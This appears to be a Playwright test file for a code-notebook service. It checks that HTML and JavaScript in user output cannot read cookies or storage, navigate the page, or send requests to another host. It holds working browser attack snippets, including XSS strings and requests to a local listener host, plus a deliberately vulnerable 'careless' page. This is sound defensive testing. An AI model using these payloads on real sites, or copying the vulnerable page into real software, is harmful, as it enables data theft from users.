"""Output of user code attacks whoever looks at it. Each attack is first let loose on a careless page, where it must succeed: that
shows that the attack is one, and that this test would see it. Then it is printed into the real page.
"""

from __future__ import annotations

import contextlib
import json
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Final

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Frame, Locator, expect

from tests.page.opening import Opened, context_of
from tests.service.running import Service
from tests.support.waiting import HANG

SECRET: Final = "what-the-page-knows"
# Begun by a click, with which a browser allows more than without one. Says in its own document what came of it.
BUTTON: Final = """<button id="go">go</button><p id="report">ready</p><script>
const HIT = %s;
const report = text => { document.getElementById('report').textContent = text };
const tried = async what => { try { return 'got ' + await what() } catch (error) { return 'refused ' + error.name } };
document.getElementById('go').onclick = async () => { %s };
</script>"""
# Of a page that shows output as if it were its own, and does what it is told.
CARELESS: Final = """<!doctype html><title>careless</title><body><p>%s</p><script>
localStorage.setItem('word', '%s');
addEventListener('message', event => { if (event.data && event.data.run) fetch('/hit/careless/message?' + event.data.run) });
const frame = document.createElement('iframe');
frame.srcdoc = %s;
document.body.append(frame);
</script>"""


@dataclass
class Elsewhere:
    """Another host on which somebody listens; it also serves the careless page."""

    url: str
    hits: list[str] = field(default_factory=list)
    careless: str = ""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = b""
            if self.path.startswith("/hit"):
                found.hits.append(self.path)
            elif self.path == "/careless":
                body = found.careless.encode()
            self.rfile.read(int(self.headers.get("Content-Length", "0")))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815 -- http.server calls it so

        def log_message(self, format: str, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        found = Elsewhere(f"http://127.0.0.1:{server.server_address[1]}")
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield found
        server.shutdown()
        thread.join(HANG)


@dataclass(frozen=True)
class Attack:
    """`script`: what the click does. `blocked`: what the browser says about it, which is waited for, or what the frame reports.
    It has succeeded where somebody elsewhere heard of it, or the report begins with "got"."""

    name: str
    script: str
    blocked: str

    @property
    def slug(self) -> str:
        return self.name.replace(" ", "-")


ATTACKS: Final = [
    Attack("cookies", "report(await tried(() => document.cookie || Promise.reject(new Error)))", "refused SecurityError"),
    Attack(
        "storage",
        "report(await tried(() => localStorage.getItem('word')) + await tried(() => sessionStorage.length)"
        " + await tried(() => indexedDB.open('x').onerror))",
        "refused SecurityErrorrefused SecurityErrorrefused SecurityError",
    ),
    Attack("parent", "report(await tried(() => parent.document.body.innerText))", "refused SecurityError"),
    Attack("top navigation", "report('tried'); top.location = HIT + '/top'", "Unsafe attempt to initiate navigation"),
    Attack("self-navigation", "report('tried'); location = HIT + '/self?word'", "frame-src"),
    Attack("self-navigation by a link", "report('tried'); const a = document.createElement('a'); a.href = HIT + '/link'; document.body.append(a); a.click()", "frame-src"),
    Attack("self-navigation by meta", "report('tried'); document.head.innerHTML = `<meta http-equiv=refresh content='0;url=${HIT}/meta'>`", "frame-src"),
    Attack("fetch", "report(await tried(() => fetch(HIT + '/fetch', {mode: 'no-cors'}).then(() => 'it')))", "refused TypeError"),
    Attack("beacon", "report(await tried(() => navigator.sendBeacon(HIT + '/beacon', 'x'))); new WebSocket(HIT.replace('http', 'ws'))", "connect-src"),
    Attack(
        "picture",
        "report(await tried(() => new Promise((yes, no) => { const i = new Image; i.onload = i.onerror = e => e.type === 'load' ? yes() : no(new Error);"
        " i.src = HIT + '/picture' })))",
        "refused Error",
    ),
    Attack("style and script", "document.body.insertAdjacentHTML('beforeend', `<i style='background:url(${HIT}/style)'>x</i>`); report(await tried(() => new Promise((yes, no) => { const s = document.createElement('script'); s.onload = yes; s.onerror = () => no(new Error); s.src = HIT + '/script'; document.head.append(s) })))", "refused Error"),
    Attack("popup", "report(await tried(() => window.open(HIT + '/popup').name || Promise.resolve('it')))", "refused TypeError"),
    Attack("form", "report('tried'); document.body.insertAdjacentHTML('beforeend', `<form method=post action='${HIT}/form'></form>`); document.forms[0].submit()", "Blocked form submission"),
    Attack("nested frame", "report('tried'); const f = document.createElement('iframe'); f.src = HIT + '/nested'; document.body.append(f)", "default-src"),
]  # fmt: skip


MESSAGES: Final = Attack(
    "messages",
    "for (const m of [{run: 'x'}, 'x', {height: 9}, NaN, -1e9, 1e308, Infinity, [7]]) parent.postMessage(m, '*'); report('tried')",
    "",
)


def html_of(attack: Attack, elsewhere: Elsewhere, whence: str = "page") -> str:
    """`whence`: what its requests tell, so that a late one of the careless page is not taken for one of the real page."""
    return BUTTON % (json.dumps(f"{elsewhere.url}/hit/{whence}/{attack.slug}"), attack.script)


def run(opened: Opened, html: str) -> Locator:
    return opened.run(f"from IPython.display import HTML\nHTML({html!r})")


def succeeds_on_a_careless_page(attack: Attack, elsewhere: Elsewhere, careless: BrowserContext) -> bool:
    html = json.dumps(html_of(attack, elsewhere, "careless")).replace("</", "<\\/")
    elsewhere.careless = CARELESS % (SECRET, SECRET, html)
    page = careless.new_page()
    page.goto(elsewhere.url + "/careless")
    frame = page.frames[1]
    frame.locator("#go").click()

    def succeeded() -> bool:
        return any(f"/careless/{attack.slug}" in hit or "/careless/message" in hit for hit in elsewhere.hits) or got(
            frame
        )

    deadline = time.monotonic() + HANG
    while not succeeded() and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    found = succeeded()
    page.close()
    return found


@pytest.fixture(scope="module")
def careless(browser: Browser, elsewhere: Elsewhere) -> Iterator[BrowserContext]:
    """A browser that knows a secret, for the careless page."""
    context = context_of(browser)
    context.add_cookies([{"name": "word", "value": SECRET, "url": elsewhere.url}])
    yield context
    context.close()


@pytest.fixture(scope="module")
def attacked(service: Service, browser: Browser) -> Iterator[Opened]:
    """The real page, which knows the secret too. Each attack has a frame of its own in it."""
    context = context_of(browser)
    context.add_cookies([{"name": "word", "value": SECRET, "url": service.url}])
    opened = Opened.new(service, context)
    opened.page.evaluate("word => { localStorage.setItem('word', word); sessionStorage.setItem('word', word) }", SECRET)
    yield opened
    # It is as it was, and works.
    assert opened.text(opened.run("print('still here')")) == "still here\n"
    context.close()


def got(frame: Frame) -> bool:
    # A frame that goes elsewhere meanwhile has nothing to say.
    with contextlib.suppress(Error):
        return any(text.startswith("got") for text in frame.locator("#report").all_inner_texts())
    return False


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.slug)
def test_an_attack_from_output_fails(
    attack: Attack, elsewhere: Elsewhere, careless: BrowserContext, attacked: Opened
) -> None:
    assert succeeds_on_a_careless_page(attack, elsewhere, careless)
    frame = attacked.frame(run(attacked, html_of(attack, elsewhere)))
    # The attack has begun there.
    expect(frame.locator("#report")).to_have_text("ready")
    if attack.blocked.startswith("refused"):
        frame.locator("#go").click()
        expect(frame.locator("#report")).to_have_text(attack.blocked)
    else:
        with attacked.page.expect_console_message(lambda message: attack.blocked in message.text):
            frame.locator("#go").click()
    assert attacked.page.url == attacked.address
    assert len(attacked.context.pages) == 1
    assert [hit for hit in elsewhere.hits if "careless" not in hit] == []


@pytest.mark.wide
def test_the_page_takes_nothing_but_a_bounded_height_from_a_frame(
    opened: Opened, elsewhere: Elsewhere, careless: BrowserContext
) -> None:
    assert succeeds_on_a_careless_page(MESSAGES, elsewhere, careless)
    place = run(opened, html_of(MESSAGES, elsewhere))
    frame = opened.frame(place)
    frame.locator("#go").click()
    expect(frame.locator("#report")).to_have_text("tried")
    # 1e308 is the last number in it, and the highest that the page gives is 4000.
    expect(place.locator(".frame")).to_have_css("height", "4000px")
    expect(opened.runs).to_have_count(1)
    assert [hit for hit in elsewhere.hits if "careless" not in hit] == []


@pytest.mark.wide
def test_a_frame_may_not_become_another_part_of_the_service(opened: Opened) -> None:
    """Neither the page itself, nor a file that user code has written, nor an answer of the service."""
    opened.file("evil.html", b"<p id='evil'>evil</p>")
    for path in ("/", f"/v1/sessions/{opened.session}/files/evil.html", "/healthz"):
        place = run(opened, f"<button id='go' onclick='location = {json.dumps(opened.url + path)}'>go</button>")
        with opened.page.expect_console_message(lambda message: "frame-src" in message.text):
            opened.frame(place).locator("#go").click()
    opened.errors.clear()


@pytest.mark.wide
def test_another_frame_cannot_be_reached_either(opened: Opened) -> None:
    run(opened, "<p id='secret'>secret</p>")
    script = "<p id='report'></p><script>let said = []; for (let i = 0; i < parent.frames.length; i++) { try { parent.frames[i].document.body; said.push(parent.frames[i] === window ? 'self' : 'got') } catch (error) { said.push(error.name) } } document.getElementById('report').textContent = said.join()</script>"
    frame = opened.frame(run(opened, script))
    expect(frame.locator("#report")).to_have_text("SecurityError,self")


@pytest.mark.wide
def test_webrtc_cannot_be_had(opened: Opened) -> None:
    """No policy of the browser closes it. With it, output could speak to other hosts over UDP: seen, from a frame within the frame."""
    nested = json.dumps("<script>parent.postMessage(typeof RTCPeerConnection, '*')</script>").replace("</", "<\\/")
    html = f"""<p id='own'></p><p id='blank'></p><p id='nested'>nothing ran</p><iframe id='f'></iframe>
<script>
const say = (id, text) => {{ document.getElementById(id).textContent = text }};
say('own', typeof RTCPeerConnection);
try {{ say('blank', typeof document.getElementById('f').contentWindow.RTCPeerConnection) }} catch (error) {{ say('blank', error.name) }}
addEventListener('message', event => say('nested', event.data));
const frame = document.createElement('iframe');
frame.srcdoc = {nested};
document.body.append(frame);
</script>"""
    with opened.page.expect_console_message(lambda message: "script-src" in message.text):
        frame = opened.frame(run(opened, html))
        expect(frame.locator("#own")).to_have_text("undefined")
        expect(frame.locator("#blank")).to_have_text("SecurityError")
    expect(frame.locator("#nested")).to_have_text("nothing ran")
    opened.errors.clear()


def test_text_is_text(opened: Opened) -> None:
    hostile = "<img src=x onerror=alert(1)><script>alert(2)</script>"
    place = opened.run(
        f"import sys\nprint({hostile!r})\nprint({hostile!r}, file=sys.stderr)\nraise ValueError({hostile!r})", "error"
    )
    for kind in ("stdout", "stderr", "error"):
        expect(place.locator(f"pre.{kind}")).to_contain_text(hostile)
    place = opened.run(f"display({{'text/plain': {hostile!r}}}, raw=True)")
    expect(place.locator(".bundle pre")).to_have_text(hostile)
    assert opened.page.locator("#runs img, #runs script").count() == 0


@pytest.mark.wide
def test_a_link_of_javascript_in_markdown_reaches_nothing(opened: Opened) -> None:
    text = "[one](javascript:parent.hacked=1) <a href='javascript:parent.hacked=1' id='two'>two</a>"
    frame = opened.frame(opened.run(f"from IPython.display import Markdown\nMarkdown({text!r})"))
    expect(frame.locator("body")).to_contain_text("[one](javascript:")
    frame.locator("#two").click()
    assert opened.page.evaluate("() => 'hacked' in window") is False
    opened.errors.clear()


def test_no_html_can_be_parsed_in_the_page_itself(opened: Opened) -> None:
    """Whatever mistake is made in it: the browser refuses (Trusted Types)."""
    script = (
        "() => { try { document.body.innerHTML = '<b>x</b>'; return 'parsed' } catch (error) { return error.name } }"
    )
    assert opened.page.evaluate(script) == "TypeError"
    opened.errors.clear()


def test_the_page_cannot_be_framed(opened: Opened, elsewhere: Elsewhere, browser: Browser) -> None:
    elsewhere.careless = f"<iframe src='{opened.url}/'></iframe>"
    context = context_of(browser)
    page = context.new_page()
    with page.expect_console_message(lambda message: "frame-ancestors" in message.text):
        page.goto(elsewhere.url + "/careless")
    context.close()
